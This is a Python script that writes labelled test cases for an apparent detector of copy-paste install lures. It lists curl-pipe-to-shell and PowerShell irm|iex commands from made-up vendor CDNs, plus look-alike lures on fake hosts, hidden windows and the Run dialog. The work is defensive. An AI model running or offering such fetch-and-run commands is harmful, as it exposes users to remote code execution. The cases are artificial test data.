"""Writes tests/data/cases/benign6.jsonl: issue 9's benign side, round six, by principle.

    python tests/data/cases/make_benign6.py

Deterministic: the same file every run. Written by the helper "benign6" from how vendors,
projects, tutorials and banks write what people copy, not from any blind set. Long-tail
projects and companies are made up; lures use reserved names (`*.test`, `*.example`,
`*.invalid`) or look-alikes of the project beside them. Each group holds the texts a principle
clears and the look-alikes it must not clear (ids `b6b-ok-<technique>-NN` and
`b6b-<technique>-NN`):

- `delivery`: a company's own page and the domain that delivers its files, its name's leading
  word with a CDN's word run onto it (tallowvpn.com and downloads.tallowcdn.com). Look-alikes:
  the word joined with a hyphen (tallow-cdn.top), another company's stem, a known vendor's
  stem, a page of a forum, a blog or a recipe, plain HTTP, a hidden window, the Run box.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("benign6.jsonl")

book = Book("b6b")
ok, flagged, blocked = "not_flagged", "flagged", "malicious"

# (company's own page, the installer's address on its delivery domain)
DELIVERY = [
    (
        "https://tallowvpn.com/download/linux/",
        "https://downloads.tallowcdn.com/apps/linux/install.sh",
    ),
    ("https://www.quillnote.app/download", "https://get.quillcdn.net/install.sh"),
    ("https://docs.brackenhq.io/install", "https://brackenstatic.com/cli/install.sh"),
    ("https://ferrowave.io/docs/cli/install", "https://dl.ferrowavecdn.com/install.sh"),
    ("https://www.mintlyscan.com/downloads/linux", "https://mintlyfiles.com/linux/install.sh"),
    ("https://kestrelsync.dev/docs/installation", "https://kestrelassets.net/cli/install.sh"),
    ("https://orbitdesk.com/linux/install", "https://orbitdl.com/orbitdesk/install.sh"),
    ("https://www.saffronmail.com/setup/linux", "https://cdn.saffroncdn.com/bridge/install.sh"),
]
SHAPES = [
    "curl -fsSL {} | sh",
    "sh <(curl -sSf {})",
    'bash -c "$(curl -fsSL {})"',
    "wget -qO- {} | sudo bash",
]

for n, (page, script) in enumerate(DELIVERY):
    book.add("delivery", SHAPES[n % len(SHAPES)].format(script), ok, "linux", "terminal", page)
    book.add("delivery", f"curl -fsSL {script} | bash", ok, "linux", "unknown", page)
book.add(
    "delivery",
    "irm https://dl.tallowcdn.com/win/install.ps1 | iex",
    ok,
    "windows",
    "terminal",
    "https://tallowvpn.com/download/windows/",
)
book.add(
    "delivery",
    'powershell -ExecutionPolicy ByPass -c "irm https://quillcdn.net/install.ps1 | iex"',
    ok,
    "windows",
    "terminal",
    "https://www.quillnote.app/download/windows",
)

# what the delivery domain's reading must not reach
LOOKALIKES = [
    # the stem joined to the CDN word with a hyphen: how look-alike hosts are made
    ("https://tallowvpn.com/download/linux/", "curl -fsSL https://tallow-cdn.top/install.sh | sh"),
    ("https://ferrowave.io/docs/cli/install", "curl -fsSL https://ferrowave-cdn.test/i.sh | sh"),
    # another company's stem
    ("https://tallowvpn.com/download/linux/", "curl -fsSL https://quillcdn.net/install.sh | sh"),
    # a known vendor's name in front of the CDN word
    ("https://brewmaster.io/download", "curl -fsSL https://brewcdn.io/install.sh | bash"),
    # a stem of fewer than four letters, or a topic word
    ("https://novpn.com/download/linux", "curl -fsSL https://nocdn.com/install.sh | sh"),
    ("https://linuxmintly.com/download", "curl -fsSL https://linuxcdn.com/install.sh | sh"),
    # a user-content host is anyone's files
    ("https://quillnote.app/download", "curl -fsSL https://quillusercontent.com/x.sh | sh"),
    # a forum or a community section of the company's site, a blog, a recipe page
    (
        "https://forum.tallowvpn.com/t/linux-install/812",
        "curl -fsSL https://tallowcdn.com/i.sh | sh",
    ),
    (
        "https://community.quillnote.app/t/setup/77",
        "curl -fsSL https://quillcdn.net/install.sh | sh",
    ),
    ("https://www.tallowvpn.com/blog/summer-recipes", "curl -fsSL https://tallowcdn.com/i.sh | sh"),
    (
        "https://medium.com/@netnotes/tallowvpn-on-linux-2b1c",
        "curl -fsSL https://tallowcdn.com/i.sh | sh",
    ),
    # the page's name joins words with a hyphen (a coupon site's, a deal site's)
    (
        "https://www.coupon-saver-deals.example/install",
        "curl -fsSL https://couponcdn.test/s.sh | sh",
    ),
    # plain HTTP
    (
        "https://tallowvpn.com/download/linux/",
        "curl -fsSL http://downloads.tallowcdn.com/install.sh | sh",
    ),
]
for page, text in LOOKALIKES:
    book.add("delivery", text, flagged, "linux", "terminal", page)
book.add(
    "delivery",
    'powershell -w hidden -c "irm https://dl.tallowcdn.com/win/install.ps1 | iex"',
    flagged,
    "windows",
    "terminal",
    "https://tallowvpn.com/download/windows/",
)
book.add(
    "delivery",
    'powershell -c "irm https://dl.tallowcdn.com/win/install.ps1 | iex"',
    blocked,
    "windows",
    "run_dialog",
    "https://tallowvpn.com/download/windows/",
)


CASES = book.cases

if __name__ == "__main__":
    write(OUT, CASES)
